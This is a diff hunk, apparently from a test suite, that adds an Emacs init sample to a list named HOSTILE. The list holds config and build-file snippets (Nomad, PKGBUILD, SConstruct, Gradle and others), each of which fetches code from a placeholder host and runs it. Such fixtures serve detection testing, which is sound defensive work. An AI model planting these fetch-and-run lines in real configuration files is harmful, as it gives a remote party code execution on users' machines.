@@ -19,6 +19,7 @@ HOSTILE = [
      f"  command '/opt/agent.sh'\nend\n")),
     ("a.nomad", f'artifact {{\n source = "{STRANGER}/agent.run"\n}}\nconfig {{\n command = "local/agent.run"\n}}\n'),
     ("PKGBUILD", f'source=("{STRANGER}/t.sh")\nbuild() {{ bash "$srcdir/t.sh"; }}\n'),
+    (".emacs", f'(with-temp-buffer (url-insert-file-contents "{STRANGER}/e.el") (eval-buffer))\n'),
     ("SConstruct", (f"import urllib.request\nenv = Environment()\n"
      f"env.Execute(urllib.request.urlopen('{STRANGER}/s').read())\n")),
     ("settings.gradle.kts", f'apply(from = "{STRANGER}/s.gradle.kts")\n'),
